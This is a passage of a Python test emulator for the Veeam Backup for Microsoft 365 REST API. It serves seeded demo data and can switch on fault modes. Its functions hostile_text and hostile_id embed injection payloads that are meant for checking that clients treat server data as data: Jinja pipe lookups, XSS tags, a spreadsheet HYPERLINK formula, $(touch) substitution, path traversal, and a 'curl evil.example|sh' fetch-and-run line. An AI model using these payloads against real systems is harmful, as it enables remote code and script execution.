#!/usr/bin/env python
# -*- coding: utf-8 -*-
# Copyright: (c) 2026, vb365.backup contributors
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
"""An emulator of the Veeam Backup for Microsoft 365 REST API (v5 to v8), for demos and tests.

    python tests/emulator/vb365_emulator.py --state-dir /tmp/vb365 [--product 8] [--port 0] [--http]

It listens on 127.0.0.1 (HTTPS with a certificate made at start), writes ``emulator.json``
(URL, port, pid, CA file, credentials, session ids) into the state directory, and stops on
SIGTERM or SIGINT. Its data are seeded and deterministic; log items are computed on demand, so a
session of a million operations costs no memory. Faults are switched on with ``--fault`` flags or
the admin endpoint ``POST /_emulator/faults``; see docs/emulator.md.

Standard library only, plus ``cryptography`` for the certificate (ansible-core depends on it, so it
is present wherever the collection runs); ``openssl`` is used when it is missing.
"""

from __future__ import annotations

import argparse
import collections
import datetime
import functools
import json
import os
import random
import secrets
import signal
import socket
import ssl
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request
import uuid
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlsplit


def _load_timestamp_parser():
    # The collection's one ISO 8601 parser, loaded by path: the emulator runs without the collection installed.
    import importlib.util
    path = os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', '..', 'plugins', 'module_utils',
                        'normalize.py')
    spec = importlib.util.spec_from_file_location('vb365_normalize', path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.timestamp_ticks


timestamp_ticks = _load_timestamp_parser()

PRODUCT_VERSIONS = {5: ('v5',), 6: ('v5', 'v6'), 7: ('v5', 'v6', 'v7'), 8: ('v5', 'v6', 'v7', 'v8')}
PRODUCT_BUILDS = {5: '5.0.3.1063', 6: '6.1.0.222', 7: '7.1.0.1301', 8: '8.1.1.125'}
DEFAULT_USERNAME = 'demo-admin'
DEFAULT_PASSWORD = 'Demo-Passw0rd!'
SERVER_OFFSET = datetime.timezone(datetime.timedelta(hours=1))
# v5 writes absolute links with the server's own idea of its name, which clients may not resolve.
V5_LINK_HOST = 'https://vbo-internal.corp.local:4443'
MAX_LIMIT = 10000
DEFAULT_LIMIT = 30
UNAUTHORIZED = 'Authorization has been denied for this request.'
JOB_ACTIONS = ('start', 'stop', 'enable', 'disable')

FAULT_DEFAULTS = {
    'expire_tokens_after': 0,       # an access token works for N authenticated requests, then 401
    'token_429': 0,                 # the next N POST /token answer 429
    'token_429_retry_after': 1,     # Retry-After sent with those (null: none)
    'server_errors': 0,             # the next N API requests (not /token) answer server_error_status
    'server_error_status': 503,
    'server_error_retry_after': None,
    'delay_seconds': 0.0,           # every API response waits this long first
    'close_mid_body': 0,            # the next N LogItems responses stop half-way and close the connection
    'html_errors': 0,               # the next N API requests get a proxy's HTML 502 page
    'page_cap': 0,                  # pages hold at most N items, whatever limit was asked (0: 10,000)
    'append_per_page': 0,           # each LogItems page of a running session adds N new items
    'token_rate_limit': True,       # 1 login a second and 5 a minute, as the real /token
    'outdate_change_tokens': 0,     # the next N change-feed requests with a token answer OutdatedChangeToken
    # A hostile or broken server: data that must stay data (see hostile_text and docs/emulator.md).
    'hostile_text': None,           # a marker path: every name, details, message and title carries hostile_text()
    'hostile_ids': False,           # session objects carry a hostile text instead of their UUID id
    'hostile_usn': False,           # log items carry HTML instead of their usn number
    # Job actions (POST /vN/Jobs/{id}/start, see docs/emulator.md): how a job started through the API runs.
    'job_run_seconds': 2.0,         # a started job's session runs this long, then ends
    'job_run_status': 'Success',    # with this status: Success, Warning, Failed or Stopped
    'job_start_answer_delay': 0.0,  # a start's answer is sent this many seconds after the job has started
    # Retention deleting a session between the feed's word of it and the client's read of it.
    'vanish_on_finish': 0,          # the next N sessions that finish are announced, then answer 404
    # A broken or hostile transport (a proxy, a load balancer, a server that loops).
    'redirect_token': None,         # a URL: POST /token answers 307 with this Location
    'echo_login_errors': False,     # a refused login's error_description echoes the request body
    'drip_seconds': 0.0,            # API answers (not /_emulator) are sent one byte every this many seconds
    'ignore_offset': False,         # LogItems always answer the first page, with a next link
    'invent_items': False,          # LogItems answer a full page of new items at any offset, with a next link
}

# Text keys the server fills from what tenants and admins typed (names, texts, messages).
HOSTILE_TEXT_KEYS = ('name', 'description', 'details', 'message', 'title', 'displayName', 'officeName')


def hostile_text(marker):
    """A text that is harmless only if every consumer treats it as data.

    It starts a spreadsheet formula, carries Jinja that would create ``marker`` if templated, HTML that
    would run a script, Markdown table, heading and link syntax, a bare carriage return, a shell
    command and a lone surrogate (valid JSON, not encodable as UTF-8).
    """
    return ('=HYPERLINK("https://evil.example/x","open")|{{ lookup(\'pipe\', \'touch %s\') }}{# hostile #}'
            '<img src=x onerror="document.title=\'pwned\'"><script>document.title=\'pwned\'</script>'
            ' | cell\r# Injected heading\n[click](https://evil.example) $(touch %s) \ud800 ' % (marker, marker))


def hostile_id(marker):
    return "../{{ lookup('pipe', 'touch %s') }};curl${IFS}-s${IFS}evil.example|sh <img src=x>" % marker


def make_hostile(body, faults):
    """The body with the hostile faults applied to every object in it (a copy; the world is unchanged)."""
    marker = faults.get('hostile_text')
    if isinstance(body, list):
        return [make_hostile(item, faults) for item in body]
    if not isinstance(body, dict):
        return body
    changed = {}
    for key, value in body.items():
        if isinstance(value, (dict, list)):
            value = make_hostile(value, faults)
        elif marker and key in HOSTILE_TEXT_KEYS and isinstance(value, str):
            if key == 'title' and value.startswith('['):
                status, _sep, rest = value.partition('] ')
                value = '%s] %s%s' % (status, hostile_text(marker), rest)
            else:
                value = hostile_text(marker) + value
        changed[key] = value
    if faults.get('hostile_ids') and 'retryCount' in changed and 'id' in changed:
        changed['id'] = hostile_id(marker or '/tmp/vb365-hostile-id')
    if faults.get('hostile_usn') and 'usn' in changed:
        changed['usn'] = '<img src=x onerror="document.title=\'pwned\'">%s' % changed['usn']
    return changed


def is_hostile(faults):
    return bool(faults.get('hostile_text') or faults.get('hostile_ids') or faults.get('hostile_usn'))


# How many session changes the feeds keep; an older change token is outdated.
CHANGES_KEPT = 1000
# The longest long poll of /v8/Events the emulator waits through.
LONG_POLL_CAP_SECONDS = 120
V8_EVENT_STATUS = {'Stopped': 'Stopped', 'Running': 'Running', 'Success': 'Success', 'Failed': 'Failed',
                   'Warning': 'Warning'}


TICKS_PER_SECOND = 10000000


def encode_json(body):
    # A lone surrogate (hostile_text) cannot be UTF-8: written as its JSON escape, as real servers do.
    return json.dumps(body, ensure_ascii=False).encode('utf-8', 'backslashreplace')


def fmt_ticks(ticks):
    """A server timestamp from 100 ns ticks since the epoch: seven fractional digits, local offset."""
    local = datetime.datetime.fromtimestamp(ticks // TICKS_PER_SECOND, SERVER_OFFSET)
    offset = local.strftime('%z')
    return '%s.%07d%s:%s' % (local.strftime('%Y-%m-%dT%H:%M:%S'), ticks % TICKS_PER_SECOND, offset[:3], offset[3:])


def fmt_time(moment):
    return fmt_ticks(int(moment.timestamp()) * TICKS_PER_SECOND + moment.microsecond * 10)


def title_date(moment):
    local = moment.astimezone(SERVER_OFFSET)
    return '%d/%d/%d %d:%02d:%02d %s' % (local.month, local.day, local.year, (local.hour % 12) or 12, local.minute,
                                         local.second, 'AM' if local.hour < 12 else 'PM')


class Session:
    """A job session whose log items are computed from their index, never stored."""

    def __init__(self, session_id, job, start, status, item_count, seed, retry_count=0, running=False,
                 will_be_retried=False):
        self.id = session_id
        self.will_be_retried = will_be_retried
        self.job = job
        self.start = start
        self.status = status
        self.item_count = item_count
        self.seed = seed
        self.retry_count = retry_count
        self.running = running
        self.prefix = session_id[:24]
        self.start_ticks = int(start.timestamp()) * TICKS_PER_SECOND
        self.lock = threading.Lock()

    def usn(self, index):
        # Increasing with gaps, as on real servers (1, 2, 1000 has been seen).
        return index + 1 + (index // 4) * 3

    def index_of_usn_at_most(self, usn):
        """Index of the last item whose usn is not above usn, or -1."""
        low, high = 0, self.item_count - 1
        found = -1
        while low <= high:
            middle = (low + high) // 2
            if self.usn(middle) <= usn:
                found = middle
                low = middle + 1
            else:
                high = middle - 1
        return found

    def item_id(self, index):
        return '%s%012x' % (self.prefix, index)

    def index_of_id(self, item_id):
        if not item_id.lower().startswith(self.prefix):
            return None
        try:
            index = int(item_id[24:], 16)
        except ValueError:
            return None
        return index if 0 <= index < self.item_count else None

    def item_status(self, index):
        last = self.item_count - 1
        if index == 0 or (index == last and not self.running):
            return 'Success'
        if self.running and index == last:
            return 'Running'
        draw = (index * 2654435761 + self.seed) % 1000
        if self.status in ('Failed', 'Warning') and draw < 40:
            return 'Warning'
        if self.status == 'Failed' and draw >= 985:
            return 'Failed'
        if self.status == 'Stopped' and index == last - 1:
            return 'Stop'
        return 'Success'

    def item_text(self, index, status):
        org = self.job['org']
        last = self.item_count - 1
        moment = self.start + datetime.timedelta(seconds=index * 0.75)
        if index == 0:
            return 'Job started at %s' % title_date(moment)
        if index == 1:
            return 'Connected to organization %s' % org['domain']
        if index == last and not self.running:
            return 'Job finished at %s' % title_date(moment)
        user = org['users'][index % len(org['users'])]
        kind = (index // 3) % 3
        if kind == 0:
            subject = 'mailbox %s@%s' % (user, org['domain'])
        elif kind == 1:
            subject = 'OneDrive https://%s-my.sharepoint.com/personal/%s' % (org['tenant'], user.replace('.', '_'))
        else:
            subject = 'site https://%s.sharepoint.com/sites/%s' % (org['tenant'], org['sites'][index % len(org['sites'])])
        if status == 'Warning':
            return 'Processing %s finished with warning: Item "Q%d plan.pptx" exceeds the size limit and was skipped' % (
                subject, index % 4 + 1)
        if status == 'Failed':
            return 'Processing %s failed: Access is denied. (The remote server returned an error: (403) Forbidden.)' % (
                subject)
        if status == 'Running':
            return 'Processing %s (%d items processed)' % (subject, index * 7 % 900)
        if status == 'Stop':
            return 'Job was stopped by user %s' % DEFAULT_USERNAME
        return 'Processing %s (%d items, %d.%d MB)' % (subject, index * 13 % 700 + 1, index % 90, index % 10)

    def item(self, index, version):
        status = self.item_status(index)
        created = self.start_ticks + index * 7500000 + (index * 7919) % 5000000
        running_now = status == 'Running'
        body = {'id': self.item_id(index), 'usn': self.usn(index)}
        text = self.item_text(index, status)
        if version == 'v8':
            body['type'] = {'Failed': 'Error'}.get(status, status)
            body['message'] = text
        else:
            body['title'] = '[%s] %s' % (status, text)
        body['creationTime'] = fmt_ticks(created)
        body['endTime'] = None if running_now else fmt_ticks(
            created + 5000000 + (index % 3) * TICKS_PER_SECOND + (index * 104729) % 1000000)
        if version != 'v8':
            href = '/%s/JobSessions/%s/LogItems/%s' % (version, self.id, self.item_id(index))
            body['_links'] = {'self': {'href': V5_LINK_HOST + href if version == 'v5' else href}}
        return body

    finished_at = None
    etag = 1

    def end_time(self):
        if self.running:
            return None
        if self.finished_at is not None:
            return self.finished_at
        return self.start + datetime.timedelta(seconds=self.item_count * 0.75 + 3)

    def as_json(self, version):
        body = {
            'id': self.id,
            'details': '%d operations' % self.item_count if not self.running else 'Processing',
            'creationTime': fmt_time(self.start),
            'endTime': fmt_time(self.end_time()) if self.end_time() else None,
            'retryCount': self.retry_count,
            'progress': 100 if not self.running else 42,
            'status': self.status,
            'statistics': {'processingRateBytesPS': 5242880, 'processingRateItemsPS': 37, 'readRateBytesPS': 6291456,
                           'writeRateBytesPS': 4194304, 'transferredDataBytes': self.item_count * 1048576,
                           'processedObjects': self.item_count, 'bottleneck': 'Source'},
        }
        if version in ('v7', 'v8'):
            # mainSessionId is only sent for retry sessions; none of these is one.
            body.update({'repositoryId': self.job['repositoryId'], 'jobWillBeRetried': self.will_be_retried,
                         'jobType': 'Backup'})
        if version == 'v8':
            body.update({'jobId': self.job['id'], 'jobSessionConfigType': 'Incremental', 'eTag': self.etag,
                         'proxyId': self.job['proxyId'], 'proxyPoolId': None})
        links = {'self': {'href': '/%s/JobSessions/%s' % (version, self.id)},
                 'log': {'href': '/%s/JobSessions/%s/LogItems' % (version, self.id)},
                 'job': {'href': '/%s/Jobs/%s' % (version, self.job['id'])}}
        if version == 'v5':
            links = dict((name, {'href': V5_LINK_HOST + link['href']}) for name, link in links.items())
        body['_links'] = links
        return body


class World:
    """Seeded organizations, jobs and sessions.

    Besides the four jobs the demo and most tests use, the world always holds a job whose last failed
    session the server will retry, one that missed its last runs, one that is disabled, and names with
    spaces and non-ASCII letters. ``jobs`` and ``organizations`` add generated ones up to those totals.
    """

    def __init__(self, seed=365, large_session_items=0, now=None, jobs=0, organizations=0):
        rng = random.Random(seed)
        self.now = now or datetime.datetime.now(datetime.timezone.utc).replace(microsecond=0)
        orgs = [
            {'name': 'Contoso Ltd', 'domain': 'contoso.com', 'tenant': 'contoso',
             'users': ['adele.vance', 'alex.wilber', 'diego.siciliani', 'grady.archie', 'isaiah.langer'],
             'sites': ['Legal', 'Finance', 'Marketing']},
            {'name': 'Fabrikam Inc', 'domain': 'fabrikam.com', 'tenant': 'fabrikam',
             'users': ['lee.gu', 'lidia.holloway', 'megan.bowen', 'miriam.graham'], 'sites': ['Projects', 'HR']},
            {'name': 'Northwind Traders', 'domain': 'northwindtraders.com', 'tenant': 'northwind',
             'users': ['nestor.wilke', 'patti.fernandez', 'pradeep.gupta'], 'sites': ['Sales', 'Warehouse']},
        ]
        for org in orgs:
            org['id'] = str(uuid.UUID(int=rng.getrandbits(128), version=4))
        self.jobs = []
        self.sessions = []
        # (organization, name, outcomes newest first, operations, options)
        job_plans = [
            (0, 'Contoso - Mailboxes', ['Success', 'Warning', 'Success', 'Failed', 'Success'], 120, {}),
            (0, 'Contoso - OneDrive and SharePoint', ['Warning', 'Success', 'Success', 'Success', 'Success'], 90, {}),
            (1, 'Fabrikam - All users', ['Failed', 'Warning', 'Success', 'Success', 'Stopped'], 75, {}),
            (2, 'Northwind - Teams', ['Running', 'Success', 'Success', 'Warning', 'Success'], 60, {}),
        ]
        # Ids of added organizations come from their own generator, so that the first jobs keep their ids.
        extra_rng = random.Random(seed + 1)
        orgs.append({'name': 'Müller & Söhne GmbH', 'domain': 'mueller-soehne.de', 'tenant': 'muellersoehne',
                     'users': ['juergen.weiss', 'anna.oeztuerk'], 'sites': ['Qualität'],
                     'id': str(uuid.UUID(int=extra_rng.getrandbits(128), version=4))})
        job_plans += [
            (3, 'Müller & Söhne – Exchange Online', ['Failed', 'Success', 'Success'], 50, {'will_be_retried': True}),
            (2, 'Northwind - Archive', ['Success', 'Success'], 40, {'days_ago': 4}),
            (0, 'Contoso - Legacy PST', ['Success', 'Warning'], 30, {'enabled': False, 'days_ago': 30}),
        ]
        for number in range(len(orgs), organizations):
            orgs.append({'name': 'Tenant %02d' % (number + 1), 'domain': 'tenant%02d.example' % (number + 1),
                         'tenant': 'tenant%02d' % (number + 1), 'users': ['user.one', 'user.two', 'user.three'],
                         'sites': ['Home'], 'id': str(uuid.UUID(int=extra_rng.getrandbits(128), version=4))})
        rotation = [['Success', 'Success'], ['Warning', 'Success'], ['Success', 'Warning'], ['Failed', 'Success']]
        for number in range(len(job_plans), jobs):
            org_index = number % len(orgs)
            job_plans.append((org_index, '%s - Job %02d' % (orgs[org_index]['name'].split()[0], number + 1),
                              rotation[number % len(rotation)], 40, {}))
        self.organizations = orgs
        for org_index, name, outcomes, size, options in job_plans:
            job = {'id': str(uuid.UUID(int=rng.getrandbits(128), version=4)), 'name': name, 'org': orgs[org_index],
                   'organizationId': orgs[org_index]['id'], 'enabled': options.get('enabled', True),
                   'repositoryId': str(uuid.UUID(int=rng.getrandbits(128), version=4)),
                   'proxyId': str(uuid.UUID(int=rng.getrandbits(128), version=4))}
            self.jobs.append(job)
            for age, outcome in enumerate(outcomes):
                days = age + options.get('days_ago', 1)
                start = (self.now - datetime.timedelta(days=days)).replace(hour=22, minute=0, second=0)
                if outcome == 'Running':
                    start = self.now - datetime.timedelta(minutes=20)
                session = Session(str(uuid.UUID(int=rng.getrandbits(128), version=4)), job, start, outcome,
                                  size + rng.randint(0, 40), rng.getrandbits(32), retry_count=0,
                                  running=outcome == 'Running',
                                  will_be_retried=age == 0 and options.get('will_be_retried', False))
                self.sessions.append(session)
            job['lastStatus'] = outcomes[0]
            job['lastRun'] = self.sessions[-len(outcomes)].start
        if large_session_items:
            job = self.jobs[0]
            start = self.now - datetime.timedelta(days=1, hours=2)
            self.large = Session(str(uuid.UUID(int=rng.getrandbits(128), version=4)), job, start, 'Warning',
                                 large_session_items, rng.getrandbits(32))
            self.sessions.append(self.large)
        else:
            self.large = None
        self.sessions.sort(key=lambda session: session.start, reverse=True)
        self.by_id = dict((session.id, session) for session in self.sessions)

    def job_json(self, job, version):
        body = {'id': job['id'], 'name': job['name'], 'description': 'Nightly backup of %s' % job['org']['name'],
                'backupType': 'EntireOrganization', 'isEnabled': job['enabled'], 'lastStatus': job['lastStatus'],
                'lastRun': fmt_time(job['lastRun']),
                'nextRun': fmt_time((self.now + datetime.timedelta(days=1)).replace(hour=22, minute=0, second=0))
                if job['enabled'] else None,
                'repositoryId': job['repositoryId'], 'schedulePolicy': {'type': 'Daily', 'dailyTime': '22:00:00'}}
        links = {'self': {'href': '/%s/Jobs/%s' % (version, job['id'])}}
        if version == 'v8':
            body['organizationId'] = job['organizationId']
        else:
            # Before v8 only the link names the organization.
            href = '/%s/Organizations/%s' % (version, job['organizationId'])
            links['organization'] = {'href': V5_LINK_HOST + href if version == 'v5' else href}
        body['_links'] = links
        return body

    def organization_json(self, org, version):
        return {'id': org['id'], 'name': org['name'], 'officeName': org['domain'], 'type': 'Office365',
                'region': 'Worldwide', 'isBackedup': True,
                '_links': {'self': {'href': '/%s/Organizations/%s' % (version, org['id'])}}}


GIB = 1024 ** 3
LICENSE_MODES = ('over', 'expiring', 'expired', 'ok')
# Licensed users follow a pattern of 20 by their index (see docs/emulator.md, "Licence, users, repositories").
USER_PERIOD = 20
NEW_AT, TEMPORARY_AT, NEVER_BACKED_UP_AT, RECENT_STALE_AT, STALE_AT, EXCEEDED_AT = 3, 7, 11, 13, 15, 19


def count_at(residue, low, high, period=USER_PERIOD):
    """How many indexes in [low, high) are residue modulo period."""
    def below(end):
        return max(0, (end - residue + period - 1) // period)
    return below(high) - below(low)


class Estate:
    """Licence, licensed and organization users, repositories, proxies and health, computed on demand.

    Users are never stored: the licensed users of organization k are the indexes [starts[k], starts[k+1]),
    and every field of a user is a function of its index, so a page of 100,000 users costs its page only.
    Each organization also has users in no job (about one in twenty): on v8 they are the unprotected ones.
    """

    def __init__(self, world, users=40, license='over', seed=365):
        if license not in LICENSE_MODES:
            raise ValueError('license is one of %s' % ', '.join(LICENSE_MODES))
        rng = random.Random(seed + 2)
        self.world = world
        self.now = world.now
        self.users = users
        self.license = license
        self.id_base = rng.getrandbits(32)
        orgs = world.organizations
        share, extra = divmod(users, len(orgs))
        self.counts = [share + (1 if number < extra else 0) for number in range(len(orgs))]
        self.starts = [sum(self.counts[:number]) for number in range(len(orgs) + 1)]
        self.unlicensed = [(count + USER_PERIOD - 1) // USER_PERIOD for count in self.counts]
        self.org_index = dict((org['id'], number) for number, org in enumerate(orgs))
        self.exceeded = count_at(EXCEEDED_AT, 0, users) if license == 'over' else 0
        self.license_id = str(uuid.UUID(int=rng.getrandbits(128), version=4))
        nightly = (self.now - datetime.timedelta(days=1)).replace(hour=22, minute=0, second=0)
        self.nightly = nightly
        self.repositories = []
        proxies = [('proxy01.backup.example', 'Online', 'Disabled'), ('proxy02.backup.example', 'Offline', 'Disabled'),
                   ('proxy03.backup.example', 'Offline', 'Enabled')]
        self.proxies = [{'id': str(uuid.UUID(int=rng.getrandbits(128), version=4)), 'hostName': host,
                         'status': status, 'maintenance': maintenance} for host, status, maintenance in proxies]
        tib = 1024 * GIB
        # (name, capacity, free, out of sync, object storage without a size limit)
        plans = [('Default Backup Repository', 2 * tib, int(1.2 * tib), False, False),
                 ('Zürich JET', tib, 30 * GIB, False, False),                 # 97 % full: Error
                 ('Frankfurt JET', 4 * tib, int(0.4 * tib), False, False),    # 90 % full: Warning
                 ('Amazon S3 Archive', None, None, False, True),              # size unknown: neither
                 ('Wasabi Offsite', 2 * tib, tib, True, False)]               # out of sync: Warning
        for number, (name, capacity, free, out_of_sync, unbounded) in enumerate(plans):
            self.repositories.append({'id': str(uuid.UUID(int=rng.getrandbits(128), version=4)), 'name': name,
                                      'capacity': capacity, 'free': free, 'out_of_sync': out_of_sync,
                                      'unbounded': unbounded, 'proxy': self.proxies[number % 2]['id'],
                                      'object_storage_id': str(uuid.UUID(int=rng.getrandbits(128), version=4))})

    # -- users ------------------------------------------------------------------------------------

    def _id(self, kind, org_number, position):
        return str(uuid.UUID(int=(self.id_base << 96) | (kind << 80) | (org_number << 64) | position, version=4))

    def _org_of(self, index):
        low, high = 0, len(self.counts) - 1
        while low < high:
            middle = (low + high + 1) // 2
            if self.starts[middle] <= index:
                low = middle
            else:
                high = middle - 1
        while self.counts[low] == 0 or index >= self.starts[low + 1]:
            low += 1
        return low

    def _names(self, org_number, position):
        org = self.world.organizations[org_number]
        if position < self.counts[org_number]:
            local = org['users'][position] if position < len(org['users']) else 'user%05d' % position
        else:
            local = 'new.hire%03d' % (position - self.counts[org_number])
        display = ' '.join(part.capitalize() for part in local.replace('.', ' ').split())
        return '%s@%s' % (local, org['domain']), display

    def license_state(self, index):
        residue = index % USER_PERIOD
        if residue == EXCEEDED_AT and self.license == 'over':
            return 'Exceeded'
        return {NEW_AT: 'New', TEMPORARY_AT: 'TemporarilyAssigned'}.get(residue, 'Licensed')

    def last_backup(self, index):
        """When the user was last backed up, or None (never)."""
        residue = index % USER_PERIOD
        if residue == NEVER_BACKED_UP_AT:
            return None
        days = {STALE_AT: 10, RECENT_STALE_AT: 4}.get(residue, 0)
        if self.license_state(index) == 'Exceeded':
            days = 20   # users over the licence are not processed: their backups age
        return self.nightly - datetime.timedelta(days=days, seconds=-(index % 3600))

    def licensed_user(self, index, version):
        org_number = self._org_of(index)
        org = self.world.organizations[org_number]
        position = index - self.starts[org_number]
        name, _display = self._names(org_number, position)
        last = self.last_backup(index)
        body = {'id': self._id(1, org_number, position), 'name': name, 'isBackedUp': last is not None}
        if last is not None:
            # The schemas do not make lastBackupDate nullable: a user never backed up has none.
            body['lastBackupDate'] = fmt_time(last)
        body.update({'licenseState': self.license_state(index), 'organizationId': org['id'],
                     'backedUpOrganizationId': org['id'], 'organizationName': org['name'],
                     '_links': {'organization': {'href': '/%s/Organizations/%s' % (version, org['id'])}}})
        return body

    def organization_user(self, org_number, position, version):
        org = self.world.organizations[org_number]
        name, display = self._names(org_number, position)
        body = {'id': self._id(1, org_number, position), 'displayName': display, 'name': name, 'type': 'User',
                'locationType': 'Cloud'}
        if version in ('v7', 'v8'):
            body['office'] = 'Head Office'
        if version == 'v8':
            body['msid'] = self._id(4, org_number, position)
        body['_links'] = {'self': {'href': '/%s/Organizations/%s/Users/%s' % (version, org['id'], body['id'])}}
        return body

    def protected_user(self, index):
        org_number = self._org_of(index)
        org = self.world.organizations[org_number]
        position = index - self.starts[org_number]
        _name, display = self._names(org_number, position)
        return {'id': self._id(3, org_number, position), 'msid': self._id(4, org_number, position),
                'displayName': display, 'accountType': 'User', 'organizationId': org['id'],
                'backedUpOrganizationId': org['id'], 'eTag': 1}

    def user_range(self, org_id):
        """[low, high) of the licensed users of one organization (all of them without org_id); None if unknown."""
        if not org_id:
            return 0, self.users
        number = self.org_index.get(org_id.lower())
        if number is None:
            return None
        return self.starts[number], self.starts[number + 1]

    # -- licence and organizations ---------------------------------------------------------------

    def license_json(self, version):
        days = {'over': 200, 'expiring': 12, 'expired': -3, 'ok': 300}[self.license]
        expires = (self.now + datetime.timedelta(days=days)).replace(hour=0, minute=0, second=0)
        total = self.users - max(self.exceeded, 1) if self.license == 'over' else (self.users // 100 + 1) * 100
        body = {'licenseID': self.license_id, 'email': 'licensing@demo-cloud.example',
                'status': 'Expired' if self.license == 'expired' else 'Valid'}
        if version == 'v6':
            body['expirationDate'] = fmt_time(expires)
        else:
            body['licenseExpires'] = fmt_time(expires)
            body['gracePeriodExpires'] = fmt_time(expires + datetime.timedelta(days=30))
        body['type'] = 'Rental'
        if version != 'v6':
            body['package'] = 'Suite'
        body['licensedTo'] = 'Demo Cloud Services'
        if version == 'v6':
            body['contactPerson'] = 'Dana Demo'
        body.update({'totalNumber': max(total, 0), 'usedNumber': self.users,
                     'newNumber': count_at(NEW_AT, 0, self.users), 'supportID': '01234567'})
        if version == 'v6':
            body['supportExpirationDate'] = fmt_time(expires)
        return body

    def licensing_information(self, org_number):
        low, high = self.starts[org_number], self.starts[org_number + 1]
        exceeded = count_at(EXCEEDED_AT, low, high) if self.license == 'over' else 0
        return {'licensedUsers': high - low - exceeded, 'newUsers': count_at(NEW_AT, low, high)}

    def used_repositories(self, org_number, version):
        users = self.counts[org_number]
        used = [(self.repositories[org_number % 3], users * 5 * GIB + org_number * 1048576, 0),
                (self.repositories[3], 0, users * 2 * GIB)]
        results = []
        for repository, jet_bytes, object_bytes in used:
            body = {'usedSpaceBytes': jet_bytes + object_bytes,
                    'localCacheUsedSpaceBytes': object_bytes // 50 if object_bytes else 0,
                    'objectStorageUsedSpaceBytes': object_bytes, 'isAvailable': True, 'details': ''}
            if version == 'v8':
                body['repositoryId'] = repository['id']
                body['protectedObjectsCount'] = users
            body['_links'] = {'repository': {'href': '/%s/BackupRepositories/%s' % (version, repository['id'])}}
            results.append(body)
        return results

    # -- repositories, proxies, health ------------------------------------------------------------

    def repository_json(self, repository, version):
        unbounded = repository['unbounded']
        body = {'id': repository['id'], 'name': repository['name'],
                'description': 'Backups of %s' % repository['name'],
                'path': 'C:\\VeeamRepository\\%s' % repository['name'].split()[0]}
        if version != 'v8':
            body.update({'objectStorageId': repository['object_storage_id'] if unbounded else None,
                         'objectStorageCachePath': body['path'] + '\\Cache' if unbounded else ''})
        body.update({'objectStorageEncryptionEnabled': False if unbounded else None, 'encryptionKeyId': None,
                     'isOutOfSync': repository['out_of_sync'], 'capacityBytes': repository['capacity'],
                     'freeSpaceBytes': repository['free'], 'retentionType': 'ItemLevel',
                     'retentionPeriodType': 'Yearly', 'yearlyRetentionPeriod': 'Years3',
                     'retentionFrequencyType': 'Daily', 'dailyTime': '00:00:00', 'dailyType': 'Everyday',
                     'proxyId': repository['proxy'], 'isLongTerm': unbounded})
        if version == 'v8':
            body.update({'proxyPoolId': None, 'organizationId': None, 'isOutdated': False, 'isIndexed': True,
                         'isMigrationLocked': False, 'isOutOfOrder': False, 'outOfOrderReason': None})
            if unbounded:
                body['objectStorage'] = {'id': repository['object_storage_id'], 'sizeLimitEnabled': False,
                                         'sizeLimitGB': None, 'usedSpaceBytes': 7 * 1024 * GIB,
                                         'freeSpaceBytes': None}
        body['_links'] = {'self': {'href': '/%s/BackupRepositories/%s' % (version, repository['id'])}}
        return body

    def proxy_json(self, proxy, version):
        # Maintenance mode is v8's: before v8 the proxy v8 takes down for maintenance is online.
        status = proxy['status'] if version == 'v8' or proxy['maintenance'] == 'Disabled' else 'Online'
        body = {'type': 'Domain', 'useInternetProxy': False, 'internetProxyType': None, 'id': proxy['id'],
                'hostName': proxy['hostName']}
        if version != 'v6':
            body['fqdn'] = proxy['hostName']
        body.update({'description': 'Backup proxy', 'port': 9193})
        if version != 'v8':
            body['threadsNumber'] = 64
        body.update({'enableNetworkThrottling': False, 'throttlingValue': None, 'throttlingUnit': None,
                     'status': status})
        if version == 'v8':
            online = status == 'Online'
            body.update({'proxyPoolId': None, 'maintenanceModeState': proxy['maintenance'],
                         'cpuUsagePercent': 23.5 if online else None, 'memoryUsagePercent': 41.0 if online else None,
                         'version': PRODUCT_BUILDS[8], 'serviceAccount': None})
        body['_links'] = {'self': {'href': '/%s/Proxies/%s' % (version, proxy['id'])}}
        return body

    def health_json(self):
        return {'status': 'Unhealthy', 'entries': {
            'Nats': {'status': 'Healthy', 'description': None},
            'PostgreSql': {'status': 'Unhealthy',
                           'description': 'The configuration database answers in 12 s: check its disk and load.'}}}


class PageCache:
    """Serialised pages of finished sessions, so that the benchmark measures clients, not the emulator."""

    def __init__(self, budget_bytes=512 * 1024 * 1024):
        self.budget = budget_bytes
        self.used = 0
        self.pages = collections.OrderedDict()
        self.lock = threading.Lock()

    def get(self, key):
        with self.lock:
            return self.pages.get(key)

    def put(self, key, payload):
        with self.lock:
            if key in self.pages:
                return
            self.pages[key] = payload
            self.used += len(payload)
            while self.used > self.budget and self.pages:
                _key, dropped = self.pages.popitem(last=False)
                self.used -= len(dropped)


class Emulator:
    def __init__(self, product=8, seed=365, large_session_items=0, token_lifetime=3600, username=DEFAULT_USERNAME,
                 password=DEFAULT_PASSWORD, faults=None, jobs=0, organizations=0, users=40, license='over'):
        self.product = product
        self.versions = PRODUCT_VERSIONS[product]
        self.world = World(seed, large_session_items, jobs=jobs, organizations=organizations)
        self.estate = Estate(self.world, users, license, seed)
        self.token_lifetime = token_lifetime
        self.username = username
        self.password = password
        self.lock = threading.Lock()
        self.faults = dict(FAULT_DEFAULTS)
        self.faults.update(faults or {})
        self.tokens = {}
        self.refresh_tokens = {}
        self.login_times = collections.deque()
        self.counters = collections.Counter()
        self.issued = []
        self.page_cache = PageCache()
        # The change feed of /v8/Events and /v7/JobSessions/Changes: (sequence number, session) pairs.
        self.changes = collections.deque(maxlen=CHANGES_KEPT)
        self.change_sequence = 0
        self.changed = threading.Condition()

    def record_change(self, session):
        with self.changed:
            self.change_sequence += 1
            session.etag += 1
            self.changes.append((self.change_sequence, session))
            self.changed.notify_all()

    def changes_after(self, token, wait_seconds=0):
        """(changes after token, next token), waiting up to wait_seconds for one; None when token is outdated."""
        deadline = time.monotonic() + wait_seconds
        with self.changed:
            while True:
                oldest = self.changes[0][0] if self.changes else self.change_sequence + 1
                if token < oldest - 1:
                    return None
                found = [(sequence, session) for sequence, session in self.changes if sequence > token]
                remaining = deadline - time.monotonic()
